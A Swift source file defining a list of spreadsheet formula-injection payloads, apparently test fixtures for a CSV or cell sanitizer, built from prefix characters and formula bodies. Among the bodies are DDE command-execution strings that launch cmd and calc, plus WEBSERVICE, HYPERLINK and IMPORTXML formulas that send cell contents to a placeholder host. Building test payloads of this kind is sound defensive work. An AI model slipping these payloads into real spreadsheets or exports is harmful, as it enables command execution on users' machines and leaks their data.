/// Cells that a spreadsheet would run, or read as a number, if it were let.
///
/// Beginnings and bodies as the lists of injection attacks have them, each with each.
public enum FormulaPayloads {
  public static let all: [String] = beginnings.flatMap { beginning in bodies.map { beginning + $0 } }

  private static let beginnings = [
    "=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\u{3000}=", "\u{A0}=", "\u{200B}=", "\u{FEFF}=", "＝", "＋",
    "－", "＠", "|",
    "%", "=+", "=-", "+=", "\u{202E}=",
  ]

  private static let bodies = [
    "cmd|' /C calc'!A0", "HYPERLINK(\"http://invalid.example/?\"&A1,\"点击\")", "1+1", "SUM(A1:A9)*2",
    "DDE(\"cmd\";\"/C calc\";\"!A0\")", "WEBSERVICE(\"http://invalid.example/\"&A2)",
    "IMPORTXML(CONCAT(\"http://invalid.example/\",A1),\"//a\")", "INDIRECT(\"A1\")",
    "MSEXCEL|'\\..\\cmd.exe'!''",
    "2-5\",=1+1",
  ]
}
